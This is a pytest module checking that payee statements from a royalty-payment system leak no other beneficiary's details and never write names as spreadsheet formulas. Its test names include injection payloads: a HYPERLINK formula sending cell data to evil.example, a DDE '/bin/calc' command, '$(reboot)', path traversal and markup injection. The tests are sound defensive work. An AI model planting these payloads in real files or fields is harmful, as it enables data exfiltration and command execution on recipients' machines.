"""A statement reveals no other beneficiary: no name, no key, no address, no amount."""

import html
import json
import re
from collections.abc import Iterator
from dataclasses import dataclass
from decimal import Decimal
from pathlib import Path

import pytest

from tests.builders.books import (
    AUTUMN,
    SPRING,
    Document,
    Office,
    Shelf,
    a_beneficiary,
    a_contract,
    a_plan,
    a_row,
    a_setup,
    nothing,
)
from tests.reports.reading import formulas_in, opened, parts_of

NAMES = {
    "pay-anke": '=HYPERLINK("http://evil.example/"&A1,"Anke")',
    "pay-boris": "+BORIS|'/bin/calc'!A0",
    "pay-cleo": '@SUM(CLEO) <b>&amp; "sons"</b> ]]>',
    "pay-dora": "-Dora+7741*(2)",
    "pay-emil": "Émil “gnp.exe” \U0001f4da Œuvre",
    "pay-fritz": "&F &D {FRITZ} $(reboot) ../../fritz",
    "pay-greta": "Greta" + " long name" * 15,
}
"""Everybody who is paid, by key; names that a spreadsheet, XML or a page's footer may act upon."""

FIGURE = re.compile(r"\d[\d,]*(?:\.\d+)?")
MARKUP = re.compile(r"<[^<>]*>")
LEAST = 100
"""Smaller amounts may stand in a workbook by chance: as a width, a row, or a rate."""


PERIODS = ("2025-H1", "2025-H2", "2026-H1")


@dataclass(frozen=True)
class Papers:
    """All statements, and the runs that they tell of."""

    all: list["Paper"]
    runs: dict[str, Document]

    def amounts(self, period: str, key: str) -> set[Decimal]:
        """Every amount of somebody in a period."""
        run = self.runs[period]
        names = ("brought_forward", "allocated", "due", "to_pay", "tax", "net", "carried_forward")
        accounts = [each for each in run["beneficiaries"] if each["key"] == key]
        return {Decimal(each[name]) for each in accounts for name in names} | {
            Decimal(each["amount"])
            for contract in run["contracts"]
            for each in contract["allocations"]
            if each["beneficiary"] == key
        }


def a_payee(key: str, name: str, number: int, **more: object) -> Document:
    """Somebody with everything that must not be told to others."""
    return a_beneficiary(
        key,
        name=name,
        address=[f"{number}77 {key.title()} Lane", f"=Town of {key}"],
        city=f"City-{key}",
        ein=f"91-{number}418822",
        email=f"{key}@payee.example",
        **more,
    )


def shared_plans(office: Office) -> None:
    """Seven share one contract in steps of every kind, one has another for itself; all is issued."""
    nothing(office)
    anke, boris, cleo, dora, emil, fritz, greta = NAMES
    terms: dict[str, Document] = {
        anke: {"minimum_payment": "25.00"},
        boris: {"tax_rate": "0.24", "opening_balance": "1234.56"},
        cleo: {"on_hold": True},
    }
    payees = [
        a_payee(key, name, number, **terms.get(key, {}))
        for number, (key, name) in enumerate(NAMES.items(), 1)
    ]
    to_emil = {"share": "0.37", "to": [{"beneficiary": emil}]}
    rest = {
        "remainder": True,
        "to": [{"beneficiary": fritz, "weight": 7}, {"beneficiary": greta, "weight": 4}],
    }
    members = [{"beneficiary": dora, "weight": 19}, {"weight": 81, "steps": [to_emil, rest]}]
    net = [{"name": "All", "basis": "net", "rate": "0.5"}]
    contract = {"rules": net, "plan": "shared"}
    office.load(
        a_setup(
            contracts=[
                a_contract(
                    "foot-2015", ["collab"], **contract, subsidiary_rights={"translation": "0.75"}
                ),
                a_contract("hand-2020", ["handbook"], plan="own", rules=net),
            ],
            beneficiaries=payees,
            plans=[
                a_plan(
                    "shared",
                    {"fixed": "113.47", "to": [{"beneficiary": anke}]},
                    {
                        "share": "0.23",
                        "when": {"channels": ["online"]},
                        "to": [
                            {"beneficiary": boris, "cap": {"amount": "171.13", "per": "period"}}
                        ],
                    },
                    {"per_unit": "4.013", "to": [{"beneficiary": cleo}]},
                    {"remainder": True, "to": members},
                ),
                a_plan("own", {"remainder": True, "to": [{"beneficiary": greta}]}),
            ],
        )
    )
    office.bring_batch((*SPRING, a_row(300, discount="0.4")), "spring.csv")
    office.close("2025-H1")
    office.statements("2025-H1")
    office.bring_batch((*AUTUMN, a_row(250, date="2025-08-01")), "autumn.csv")
    office.close("2025-H2")
    office.statements("2025-H2")
    office.bring_batch([a_row(211, date="2026-02-02")], "next.csv")
    office.statements("2026-H1")


@dataclass(frozen=True)
class Paper:
    """A statement's file, read once: whose it is, all texts in it, and its cells' values."""

    period: str
    whose: str
    path: Path
    document: Document
    text: str
    cells: tuple[tuple[object, str], ...]


def files_of(office: Office) -> list[Path]:
    """Every statement's files, drafts too, but not the house's own reports."""
    folders = [office.outside / f"statements {period}" for period in PERIODS]
    found = [path for folder in folders for path in sorted(folder.iterdir())]
    return [path for path in found if " period" not in path.name]


@pytest.fixture(scope="module")
def papers(shelf: Shelf, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Papers]:
    """Everybody's statements, and what everybody gets by period."""
    with shelf.office("sqlite", shared_plans, tmp_path_factory.mktemp("papers")) as office:
        runs = {period: office.run(period) for period in PERIODS}
        found = [paper(path) for path in files_of(office)]
        assert len(found) == 2 * len(PERIODS) * len(NAMES)
        yield Papers(found, runs)


def paper(path: Path) -> Paper:
    document = json.loads(path.with_suffix(".json").read_text(encoding="utf-8"))
    data = path.read_bytes()
    whose, period = document["payee"]["key"], document["period"]
    if path.suffix == ".json":
        text = data.decode() + json.dumps(document, ensure_ascii=False)
        return Paper(period, whose, path, document, f"{path.name}\n{text}", ())
    archive = parts_of(data)
    parts = [part.decode(errors="replace") for part in archive.values()]
    plain = [html.unescape(MARKUP.sub("", part)) for part in parts]
    book = opened(data)
    sheets = book.worksheets
    cells = [cell for sheet in sheets for row in sheet.iter_rows() for cell in row if cell.value]
    read = [f"{cell.value} {cell.comment} {cell.hyperlink}" for cell in cells]
    read += [str(book.properties), str(list(book.defined_names.values())), *book.sheetnames]
    read += [str(list(sheet.defined_names.values())) for sheet in sheets]
    read += [
        str(part.text)
        for sheet in sheets
        for printed in (sheet.oddHeader, sheet.oddFooter, sheet.evenHeader, sheet.evenFooter)
        for part in (printed.left, printed.center, printed.right)
    ]
    joined = [path.name, *archive, *parts, *map(html.unescape, parts), *plain, *read]
    values = tuple((cell.value, cell.data_type) for cell in cells)
    return Paper(period, whose, path, document, "\n".join(joined), values)


def of(key: str) -> list[str]:
    """Everything by which somebody could be known."""
    number = list(NAMES).index(key) + 1
    name = NAMES[key]
    marks = [
        key,
        name,
        html.escape(name),
        f"{number}77 {key.title()} Lane",
        f"Town of {key}",
        f"City-{key}",
        f"91-{number}418822",
        f"91{number}418822",
        f"{key}@payee.example",
        key.removeprefix("pay-"),
    ]
    return [mark.casefold() for mark in marks]


def test_no_statement_names_another_beneficiary(papers: Papers) -> None:
    for each in papers.all:
        text = each.text.casefold()
        assert each.whose in text
        assert NAMES[each.whose] in each.document["payee"]["name"]
        for other in set(NAMES) - {each.whose}:
            for mark in of(other):
                assert mark not in text, f"{each.path.name} tells of {other}: {mark!r}"


def test_no_statement_shows_amounts_of_another(papers: Papers) -> None:
    checked = 0
    for each in papers.all:
        figures = {Decimal(found.replace(",", "")) for found in FIGURE.findall(each.text)}
        figures |= {abs(Decimal(str(v))) for v, _ in each.cells if isinstance(v, int | float)}
        own = {abs(amount) for amount in papers.amounts(each.period, each.whose)}
        assert all(amount in figures for amount in own), each.path
        of_contracts = {
            abs(Decimal(account[name]))
            for account in each.document["contracts"]
            for name in ("earned", "payable", "pool", "available")
        }
        for other in set(NAMES) - {each.whose}:
            theirs = papers.amounts(each.period, other) - own - of_contracts
            for amount in (amount for amount in theirs if amount >= LEAST):
                checked += 1
                assert amount not in figures, f"{each.path.name}: {other} gets {amount}"
    assert checked > 300


def test_statement_omits_contracts_without_a_share(papers: Papers) -> None:
    for each in papers.all:
        assert ("The Handbook" in each.text) == (each.whose == "pay-greta"), each.path.name


def test_name_is_never_written_as_a_formula(papers: Papers) -> None:
    seen = set()
    for each in papers.all:
        if each.path.suffix == ".xlsx":
            data = each.path.read_bytes()
            assert formulas_in(data) == []
            assert not any("externalLink" in name for name in parts_of(data))
            named = [kind for value, kind in each.cells if value == NAMES[each.whose]]
            seen |= {each.whose for _ in named}
            assert set(named) <= {"s", "inlineStr"}, each.path.name
    assert seen == set(NAMES)


@pytest.mark.thorough("on the other engine")
def test_both_engines_write_the_same_bytes(shelf: Shelf, tmp_path: Path) -> None:
    """So the checks above hold on the other engine too."""
    found = []
    for kind in ("sqlite", "postgresql"):
        with shelf.office(kind, shared_plans, tmp_path / kind) as office:
            found.append({path.name: path.read_bytes() for path in files_of(office)})
    assert found[0] == found[1]
